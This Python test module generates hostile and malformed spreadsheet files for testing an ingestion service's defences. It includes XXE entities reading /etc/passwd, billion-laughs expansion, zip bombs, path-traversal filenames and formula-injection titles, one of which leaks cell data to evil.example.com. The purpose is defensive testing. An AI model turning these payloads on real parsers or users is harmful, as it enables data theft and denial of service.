"""A corpus of broken and hostile provider files, generated into a folder at test time.

Nothing here is committed as a binary: every file is written from code, most of them as
raw OOXML parts zipped by hand, so that the odd ones (a million rows, a column at XFD,
a bomb) are exact and fast to make. Each :class:`Case` says what a user of SmartCrop
must see once the file has gone through ingestion:

- ``ingested``: recorded ``ingested`` with ``items`` new work items and ``rejected``
  rejected rows (each with its reason);
- ``failed``: recorded ``failed`` with an error starting with ``kind``, moved to the
  quarantine folder, and nothing of it in ``smartcrop_inputfiles``;
- ``ignored``: not a manifest file at all (a folder, a link, a FIFO): a watched folder
  leaves it where it is and nothing is recorded.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal
from xml.sax.saxutils import escape

NOT_READABLE = "not a readable workbook"
NO_HEADER_ROW = "no header row"
NO_PROVIDER_PREFIX = "no provider prefix"

PRESS = ["Program ID", "Program Title", "Image URL", "Width", "Height", "Season"]
# Things that must never reach the database from a hostile file.
FORBIDDEN_TEXT = ("root:x:0:0", "lol" * 50)
FORMULA_TITLES = (
    '=HYPERLINK("http://evil.example.com/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
)

Outcome = Literal["ingested", "failed", "ignored"]


@dataclass(frozen=True)
class Case:
    id: str
    name: str | bytes  # bytes: a name that is not UTF-8 (fine on Linux)
    # Writes the entry at the given path; the text is a programme-id prefix unique to
    # the case, so that cases never share content or work items with each other.
    build: Callable[[Path, str], None]
    outcome: Outcome
    kind: str = ""  # failed: how the recorded error starts
    items: int = 0  # ingested: new work items
    rejected: int = 0  # ingested: rejected rows
    reasons: tuple[str, ...] = ()  # ingested: texts the rejected rows' reasons hold
    titles: tuple[str, ...] = field(default=())  # ingested: titles stored verbatim
    outside: bool = False  # the entry points outside the folder (links)

    @property
    def fs_name(self) -> str:
        """The name as Python sees it on this file system (surrogates for bytes)."""
        return os.fsdecode(self.name)

    @property
    def shown_name(self) -> str:
        """The name as SmartCrop records and shows it (undecodable bytes -> U+FFFD)."""
        return os.fsencode(self.fs_name).decode("utf-8", "replace")


# --- raw OOXML ------------------------------------------------------------------------

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    f'relationships"><Relationship Id="rId1" Type="{_REL}/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_SHEETS = '<sheets><sheet name="Images" sheetId="1" r:id="rId1"/></sheets>'
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    f'xmlns:r="{_REL}">{{sheets}}</workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    f'relationships"><Relationship Id="rId1" Type="{_REL}/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" '
    'Target="sharedStrings.xml"/></Relationships>'
)
_SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
_EMPTY_SST = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'count="0" uniqueCount="0"></sst>'
)

Value = str | int | float | None


def col_name(number: int) -> str:
    letters = ""
    while number > 0:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell_xml(ref: str, value: Value) -> str:
    if value is None:
        return ""
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if value.startswith("\0e:"):  # an error cell, e.g. "\0e:#REF!"
        return f'<c r="{ref}" t="e"><v>{escape(value[3:])}</v></c>'
    if value.startswith("\0f:"):  # a formula with its cached value: "\0f:FORMULA|V"
        formula, _, cached = value[3:].partition("|")
        cached_xml = f"<v>{cached}</v>" if cached else ""
        return f'<c r="{ref}"><f>{escape(formula)}</f>{cached_xml}</c>'
    text = escape(value)
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def row_xml(number: int, values: Sequence[Value], first_col: int = 1) -> str:
    cells = "".join(
        cell_xml(f"{col_name(first_col + i)}{number}", v) for i, v in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def sheet_xml(body: str | Iterable[str], extra: str = "") -> bytes:
    data = body if isinstance(body, str) else "".join(body)
    return (f"{_SHEET_HEAD}<sheetData>{data}</sheetData>{extra}</worksheet>").encode()


def workbook(
    sheet: bytes,
    *,
    shared_strings: bytes | None = None,
    sheets: str = _SHEETS,
    extra_parts: dict[str, bytes] | None = None,
) -> bytes:
    """An .xlsx (as bytes) around one first-sheet XML."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CT)
        archive.writestr("_rels/.rels", _PKG_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(sheets=sheets))
        archive.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        archive.writestr("xl/sharedStrings.xml", shared_strings or _EMPTY_SST.encode())
        for name, data in (extra_parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def press_rows(count: int, start: int = 2, *, prefix: str = "SH") -> list[str]:
    return [
        row_xml(
            start + i,
            [
                f"{prefix}{i + 1:09d}",
                f"Title {i + 1}",
                f"https://press.example.com/{prefix}/{i + 1}.jpg",
                1920,
                1080,
            ],
        )
        for i in range(count)
    ]


def table(rows: Sequence[Sequence[Value]], *, header_row: int = 1) -> bytes:
    """A press-site sheet: the header on ``header_row``, then ``rows``."""
    lines = [row_xml(header_row, PRESS)]
    lines += [row_xml(header_row + 1 + i, r) for i, r in enumerate(rows)]
    return workbook(sheet_xml(lines))


def good(p: str, count: int = 3) -> bytes:
    return workbook(sheet_xml([row_xml(1, PRESS), *press_rows(count, prefix=p)]))


def row(pid: str, title: Value = "Title", url: Value = None, **more: Value) -> list:
    url = f"https://press.example.com/{pid}.jpg" if url is None else url
    return [pid, title, url, more.get("width", 1920), more.get("height", 1080)] + (
        [more["season"]] if "season" in more else []
    )


# --- hostile containers ---------------------------------------------------------------


def _deflate_bomb(total: int) -> tuple[bytes, int]:
    """A raw deflate stream of ``total`` zero bytes (a multiple of 1 MiB), made fast:
    full-flushed blocks of the same input compress to the same bytes, so one block is
    repeated. Returns (stream, crc32 of the inflated bytes)."""
    mib = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(mib) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush()
    crc = 0
    for _ in range(total >> 20):
        crc = zlib.crc32(mib, crc)
    return block * (total >> 20) + tail, crc


Entry = tuple[str, bytes, int, int, int]  # name, deflated data, crc, size, flags


def _zip_raw(entries: list[Entry]) -> bytes:
    """A zip written by hand, so that sizes, CRCs and flags say what a hostile file
    would say (zipfile refuses to write such lies)."""
    out = io.BytesIO()
    central = []
    for name, data, crc, size, flags in entries:
        offset = out.tell()
        encoded = name.encode()
        fixed = (20, flags, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fixed))
        out.write(encoded + data)
        central.append(
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHH", *fixed)
            + struct.pack("<HHHII", 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    out.write(b"".join(central))
    size = out.tell() - start
    count = len(central)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, size, start, 0))
    return out.getvalue()


def _deflate(raw: bytes) -> bytes:
    compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
    return compressor.compress(raw) + compressor.flush()


def _entries_of(book: bytes) -> list[Entry]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return [
            (info.filename, _deflate(raw), zlib.crc32(raw), len(raw), 0)
            for info in archive.infolist()
            for raw in [archive.read(info.filename)]
        ]


def zip_bomb(p: str, total: int = (1 << 30) + (64 << 20)) -> bytes:
    """A small workbook plus a part that honestly unpacks to more than 1 GiB."""
    entries = _entries_of(good(p))
    data, crc = _deflate_bomb(total)
    entries.append(("xl/media/image1.png", data, crc, total, 0))
    return _zip_raw(entries)


def lying_bomb(p: str, total: int = 256 << 20) -> bytes:
    """The shared strings part says it holds 200 bytes and inflates to 256 MiB."""
    entries = [e for e in _entries_of(good(p)) if e[0] != "xl/sharedStrings.xml"]
    data, crc = _deflate_bomb(total)
    entries.append(("xl/sharedStrings.xml", data, crc, 200, 0))
    return _zip_raw(entries)


def encrypted_entry(p: str) -> bytes:
    """The sheet part flagged as encrypted (zip's traditional PKWARE encryption)."""
    sheet = "xl/worksheets/sheet1.xml"
    return _zip_raw(
        [(n, d, c, s, 1 if n == sheet else f) for n, d, c, s, f in _entries_of(good(p))]
    )


def crc_error(p: str) -> bytes:
    sheet = "xl/worksheets/sheet1.xml"
    return _zip_raw(
        [
            (n, d, c ^ 0xFFFF if n == sheet else c, s, f)
            for n, d, c, s, f in _entries_of(good(p))
        ]
    )


def ole_file(stream_name: str, p: str) -> bytes:
    """A compound-file (OLE/CFB) header, as a password-protected .xlsx (stream
    EncryptedPackage) or a real .xls (stream Workbook) starts."""
    header = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HH", 62, 3)
    header += struct.pack("<HHH", 0xFFFE, 9, 6) + bytes(10)
    directory = stream_name.encode("utf-16-le").ljust(64, b"\0")
    return header.ljust(512, b"\0") + directory.ljust(512, b"\0") + p.encode() * 64


def sheet_with_dtd(p: str) -> bytes:
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    head = _SHEET_HEAD.replace("?>", "?>" + doctype, 1)
    body = row_xml(1, PRESS) + row_xml(2, [f"{p}1", None, _url(1)]).replace(
        "</row>", '<c r="B2" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
    )
    return workbook(f"{head}<sheetData>{body}</sheetData></worksheet>".encode())


def shared_strings_attack(kind: str, p: str) -> bytes:
    """A title taken from the shared strings part, which carries a DTD attack:
    an external entity (XXE) or exponential entity expansion (billion laughs)."""
    if kind == "xxe":
        dtd = '<!DOCTYPE sst [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        text = "&e;"
    else:
        entities = ['<!ENTITY l0 "lol">'] + [
            f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
        ]
        dtd = f"<!DOCTYPE sst [{''.join(entities)}]>"
        text = "&l9;"
    sst = (
        f'<?xml version="1.0" encoding="UTF-8"?>{dtd}'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="1" uniqueCount="1"><si><t>{text}</t></si></sst>'
    ).encode()
    body = row_xml(1, PRESS) + row_xml(2, [f"{p}1", None, _url(1)]).replace(
        "</row>", '<c r="B2" t="s"><v>0</v></c></row>'
    )
    return workbook(sheet_xml(body), shared_strings=sst)


def million_empty_rows(p: str) -> bytes:
    """Header, two data rows, then every remaining row of a sheet present but empty
    (styled cells, as "format the whole column" leaves them): about 30 MB of XML."""
    parts = [row_xml(1, PRESS), *press_rows(2, prefix=p)]
    parts.extend(
        f'<row r="{n}"><c r="A{n}" s="1"/><c r="B{n}" s="1"/></row>'
        for n in range(4, 1_048_577)
    )
    return workbook(sheet_xml(parts))


def data_after_a_million_rows(p: str) -> bytes:
    """A row at the very bottom of the sheet (row 1,048,576), three columns wide."""
    return workbook(
        sheet_xml(
            [
                row_xml(1, PRESS[:3]),
                row_xml(2, [f"{p}1", "Top", _url(1)]),
                row_xml(1_048_576, [f"{p}2", "Bottom", _url(2)]),
            ]
        )
    )


def _url(n: int) -> str:
    return f"https://press.example.com/{n}.jpg"


def wide_header(p: str, columns: int = 16_384, rows: int = 20) -> bytes:
    """A header row reaching column XFD (the last one), data in the first columns."""
    header = PRESS + [f"junk {i}" for i in range(len(PRESS) + 1, columns + 1)]
    return workbook(sheet_xml([row_xml(1, header), *press_rows(rows, prefix=p)]))


def wide_table(p: str, rows: int = 400) -> bytes:
    """A value in column XFD on every row: more than the 5,000,000 cells read."""
    parts = [row_xml(1, PRESS)]
    parts += [
        row_xml(n, [f"{p}1", "T", _url(1)]).replace(
            "</row>", f'<c r="XFD{n}"><v>1</v></c></row>'
        )
        for n in range(2, rows + 2)
    ]
    return workbook(sheet_xml(parts))


def stray_cell_at_the_end(p: str) -> bytes:
    return workbook(
        sheet_xml(
            [row_xml(1, PRESS), *press_rows(1, prefix=p)]
            + ['<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>']
        )
    )


def merged_headers(p: str) -> bytes:
    """A merged group label above the real header row."""
    parts = [
        row_xml(1, ["Programme", None, None, "Size"]),
        row_xml(2, PRESS),
        *press_rows(2, start=3, prefix=p),
    ]
    merges = (
        '<mergeCells count="2"><mergeCell ref="A1:C1"/><mergeCell ref="D1:E1"/>'
        "</mergeCells>"
    )
    return workbook(sheet_xml(parts, extra=merges))


def dates_in_id_column(p: str) -> bytes:
    """Programme ids formatted as dates (a provider's Excel "helping"): kept as text."""
    styles = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<numFmts count="1"><numFmt numFmtId="164" formatCode="yyyy-mm-dd"/></numFmts>'
        '<fonts count="1"><font/></fonts><fills count="1"><fill/></fills>'
        '<borders count="1"><border/></borders>'
        '<cellStyleXfs count="1"><xf/></cellStyleXfs>'
        '<cellXfs count="2"><xf/><xf numFmtId="164" applyNumberFormat="1"/></cellXfs>'
        "</styleSheet>"
    )
    parts = [row_xml(1, PRESS)]
    for n, serial in ((2, 46346), (3, 46347)):
        parts.append(
            f'<row r="{n}"><c r="A{n}" s="1"><v>{serial}</v></c>'
            + cell_xml(f"B{n}", "Dated")
            + cell_xml(f"C{n}", f"https://press.example.com/{p}/{n}.jpg")
            + "</row>"
        )
    rels = _WB_RELS.replace(
        "</Relationships>",
        f'<Relationship Id="rId3" Type="{_REL}/styles" Target="styles.xml"/>'
        "</Relationships>",
    )
    book = workbook(sheet_xml(parts), extra_parts={"xl/styles.xml": styles.encode()})
    return _replace_part(book, "xl/_rels/workbook.xml.rels", rels.encode())


def _replace_part(book: bytes, name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book)) as zin,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for info in zin.infolist():
            zout.writestr(
                info.filename, data if info.filename == name else zin.read(info)
            )
    return out.getvalue()


def formulas(p: str) -> bytes:
    """Formulas with cached values (as Excel saves them) and one without any."""
    parts = [
        row_xml(1, PRESS),
        row_xml(
            2,
            [
                f"{p}1",
                '\0f:CONCAT("Night ","Court")|Night Court',
                _url(1),
                "\0f:960*2|1920",
                "\0f:540*2|1080",
            ],
        ),
        row_xml(3, [f"{p}2", "\0f:NOW()|", _url(2), 100, 100]),
        row_xml(4, [f"{p}3", "T", "\0f:A1|", 100, 100]),
    ]
    return workbook(sheet_xml(parts))


def write_bytes(content: Callable[[str], bytes]) -> Callable[[Path, str], None]:
    def build(path: Path, p: str) -> None:
        path.write_bytes(content(p))

    return build


def rows_of(*rows: Callable[[str], list], header_row: int = 1) -> Callable[..., None]:
    """A press-site table whose rows are built from the case's programme prefix."""
    return write_bytes(lambda p: table([r(p) for r in rows], header_row=header_row))


def make_dir(path: Path, p: str) -> None:
    path.mkdir()
    (path / "inside.xlsx").write_bytes(good(p))


def make_fifo(path: Path, p: str) -> None:
    os.mkfifo(path)


def link_to(target_of: Callable[[Path, str], Path]) -> Callable[[Path, str], None]:
    def build(path: Path, p: str) -> None:
        path.symlink_to(target_of(path, p))

    return build


def _outside_manifest(path: Path, p: str) -> Path:
    outside = path.parent.parent / "outside"
    outside.mkdir(exist_ok=True)
    target = outside / f"NBCU_{p}_secret.xlsx"
    target.write_bytes(good(p))
    return target


def _truncated(p: str) -> bytes:
    book = good(p, 20)
    return book[: len(book) // 2]


def _injection_titles(p: str) -> bytes:
    return table([row(f"{p}{i}", title) for i, title in enumerate(FORMULA_TITLES)])


LONG_STEM = "NBCU_" + "a" * 245  # + ".xlsx": 255 bytes, the longest ext4 allows
HUGE_TITLE = "T" * 2_000_000

# fmt: off
CASES: tuple[Case, ...] = (
    # -- not workbooks at all ---------------------------------------------------------
    Case("zero_byte", "NBCU_zero.xlsx", write_bytes(lambda p: b""), "failed",
         NOT_READABLE),
    Case("blank_text", "NBCU_blank.xlsx",
         write_bytes(lambda p: b" \n\t\n" + p.encode()), "failed", NOT_READABLE),
    Case("truncated_zip", "NBCU_truncated.xlsx", write_bytes(_truncated), "failed",
         NOT_READABLE),
    Case("zip_bomb", "NBCU_bomb.xlsx", write_bytes(zip_bomb), "failed", NOT_READABLE),
    Case("lying_zip_bomb", "NBCU_liar.xlsx", write_bytes(lying_bomb), "failed",
         NOT_READABLE),
    Case("password_protected", "NBCU_protected.xlsx",
         write_bytes(lambda p: ole_file("EncryptedPackage", p)), "failed",
         NOT_READABLE),
    Case("xls_renamed", "NBCU_legacy.xlsx",
         write_bytes(lambda p: ole_file("Workbook", p)), "failed", NOT_READABLE),
    Case("csv_renamed", "NBCU_csv.xlsx",
         write_bytes(lambda p: f"Program ID,Program Title,Image URL\n{p},T,"
                     "https://x.example.com/1.jpg\n".encode()),
         "failed", NOT_READABLE),
    Case("html_renamed", "NBCU_html.xlsx",
         write_bytes(lambda p: f"<html><table><tr><td>{p}</td></tr></table>".encode()),
         "failed", NOT_READABLE),
    Case("zip_without_workbook", "NBCU_zip.xlsx",
         write_bytes(lambda p: _zip_raw([("readme.txt", _deflate(p.encode()),
                                          zlib.crc32(p.encode()), len(p), 0)])),
         "failed", NOT_READABLE),
    Case("encrypted_zip_entry", "NBCU_zipcrypto.xlsx", write_bytes(encrypted_entry),
         "failed", NOT_READABLE),
    Case("crc_error", "NBCU_crc.xlsx", write_bytes(crc_error), "failed", NOT_READABLE),
    Case("no_sheets", "NBCU_nosheets.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(row_xml(1, [p])),
                                        sheets="<sheets/>")),
         "failed", NOT_READABLE),
    Case("xxe_in_sheet", "NBCU_xxe.xlsx", write_bytes(sheet_with_dtd), "failed",
         NOT_READABLE),
    Case("xxe_in_shared_strings", "NBCU_sst_xxe.xlsx",
         write_bytes(lambda p: shared_strings_attack("xxe", p)), "failed",
         NOT_READABLE),
    Case("billion_laughs_in_shared_strings", "NBCU_laughs.xlsx",
         write_bytes(lambda p: shared_strings_attack("laughs", p)), "failed",
         NOT_READABLE),
    Case("sixteen_k_columns_on_every_row", "NBCU_wide_table.xlsx",
         write_bytes(wide_table), "failed", NOT_READABLE),
    Case("value_in_xfd1048576", "NBCU_stray.xlsx", write_bytes(stray_cell_at_the_end),
         "failed", NOT_READABLE),
    # -- workbooks without a usable header ---------------------------------------------
    Case("headers_on_row_11", "NBCU_row11.xlsx",
         rows_of(lambda p: row(f"{p}1"), header_row=11), "failed", NO_HEADER_ROW),
    Case("empty_sheet", "NBCU_empty_sheet.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(""),
                                        extra_parts={"x.txt": p.encode()})),
         "failed", NO_HEADER_ROW),
    Case("headers_in_lower_case", "NBCU_lower.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(
             row_xml(1, [h.lower() for h in PRESS]) + row_xml(2, row(p))))),
         "failed", NO_HEADER_ROW),
    Case("excel_lock_file", "~$NBCU_open_in_excel.xlsx",
         write_bytes(lambda p: b"\x0bJane Doe   " + p.encode() + bytes(150)), "failed",
         NO_PROVIDER_PREFIX),
    Case("traversal_before_the_prefix", "..%2f..%2fNBCU_x.xlsx", write_bytes(good),
         "failed", NO_PROVIDER_PREFIX),
    # -- odd but readable: ingested, bad rows rejected with reasons --------------------
    Case("headers_on_row_10", "NBCU_row10.xlsx",
         rows_of(lambda p: row(f"{p}1"), lambda p: row(f"{p}2"), header_row=10),
         "ingested", items=2),
    Case("merged_header_cells", "NBCU_merged.xlsx", write_bytes(merged_headers),
         "ingested", items=2),
    Case("dates_in_id_column", "NBCU_dates.xlsx", write_bytes(dates_in_id_column),
         "ingested", items=2),
    Case("formulas", "NBCU_formulas.xlsx", write_bytes(formulas), "ingested", items=2,
         rejected=1, reasons=("missing image URL",), titles=("Night Court",)),
    Case("formula_injection_titles", "NBCU_injection.xlsx",
         write_bytes(_injection_titles), "ingested", items=len(FORMULA_TITLES),
         titles=tuple(t.strip() for t in FORMULA_TITLES)),
    Case("huge_cell", "NBCU_huge_cell.xlsx",
         rows_of(lambda p: row(f"{p}1", HUGE_TITLE), lambda p: row(f"{p}2")),
         "ingested", items=2, titles=(HUGE_TITLE,)),
    Case("long_ids_and_seasons", "NBCU_long_ids.xlsx",
         rows_of(lambda p: row(p + "9" * 300), lambda p: row(f"{p}2", season="S" * 40),
                 lambda p: row(f"{p}3", season="3")),
         "ingested", items=1, rejected=2,
         reasons=("program id is too long", "season is too long")),
    Case("hostile_urls", "NBCU_urls.xlsx",
         rows_of(lambda p: row(f"{p}1", url="javascript:alert(1)"),
                 lambda p: row(f"{p}2", url="file:///etc/passwd"),
                 lambda p: row(f"{p}3", url="data:text/html,<b>x</b>"),
                 lambda p: row(f"{p}4")),
         "ingested", items=1, rejected=3, reasons=("image URL is not http(s)",)),
    Case("absurd_numbers", "NBCU_numbers.xlsx",
         rows_of(lambda p: row(f"{p}1", width=1e300),
                 lambda p: row(f"{p}2", height=-1),
                 lambda p: row(f"{p}3", width="\0e:#REF!"),
                 lambda p: row(f"{p}4", height="\0e:#DIV/0!"),
                 lambda p: row(f"{p}5")),
         # python-calamine hands an error cell over as "": a blank size, which is
         # allowed (it is read from the image itself later).
         "ingested", items=3, rejected=2,
         reasons=("width is too large", "height is not a positive whole number")),
    Case("nul_and_control_characters", "NBCU_control.xlsx",
         rows_of(lambda p: row(f"{p}1", "Night\u202eCourt\u200b \u0007"),
                 lambda p: row(f"{p}2", "_x0000_Nul\x00l")),
         "ingested", items=2),
    Case("ten_thousand_duplicates", "NBCU_dupes.xlsx",
         write_bytes(lambda p: table([row(f"{p}1")] * 10_000)), "ingested", items=1),
    Case("header_only", "NBCU_header_only.xlsx",
         write_bytes(lambda p: workbook(sheet_xml(row_xml(1, PRESS)),
                                        extra_parts={"x.txt": p.encode()})),
         "ingested", items=0),
    Case("million_empty_rows", "NBCU_million_rows.xlsx",
         write_bytes(million_empty_rows), "ingested", items=2),
    Case("data_after_a_million_rows", "NBCU_bottom_row.xlsx",
         write_bytes(data_after_a_million_rows), "ingested", items=2),
    Case("sixteen_k_column_header", "NBCU_wide_header.xlsx", write_bytes(wide_header),
         "ingested", items=20),
    # -- odd names ---------------------------------------------------------------------
    Case("non_utf8_name", b"NBCU_caf\xe9_\xff.xlsx", write_bytes(good), "ingested",
         items=3),
    Case("traversal_in_name", "NBCU_..%2f..%2fx.xlsx", write_bytes(good), "ingested",
         items=3),
    Case("dots_and_spaces_name", "NBCU_ ..  .. .xlsx", write_bytes(good), "ingested",
         items=3),
    Case("very_long_name", LONG_STEM + ".xlsx", write_bytes(good), "ingested", items=3),
    Case("upper_case_extension", "NBCU_UPPER.XLSX", write_bytes(good), "ingested",
         items=3),
    Case("hash_and_question_mark_name", "NBCU_week#12?.xlsx", write_bytes(good),
         "ingested", items=3),
    # -- not regular files: left alone -------------------------------------------------
    Case("directory_named_xlsx", "NBCU_folder.xlsx", make_dir, "ignored"),
    Case("fifo_named_xlsx", "NBCU_fifo.xlsx", make_fifo, "ignored"),
    Case("symlink_to_etc_passwd", "NBCU_passwd.xlsx",
         link_to(lambda path, p: Path("/etc/passwd")), "ignored", outside=True),
    Case("symlink_to_manifest_outside", "NBCU_link.xlsx", link_to(_outside_manifest),
         "ignored", outside=True),
    Case("dangling_symlink", "NBCU_dangling.xlsx",
         link_to(lambda path, p: path.parent / "nowhere.xlsx"), "ignored"),
)
# fmt: on


def prefix_of(case: Case) -> str:
    return f"SH{CASES.index(case):03d}X"


def create(case: Case, folder: Path) -> Path:
    """Write the case's entry into ``folder``; return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = Path(os.fsdecode(os.path.join(os.fsencode(folder), os.fsencode(case.name))))
    case.build(path, prefix_of(case))
    return path


def by_id(case_id: str) -> Case:
    return next(case for case in CASES if case.id == case_id)
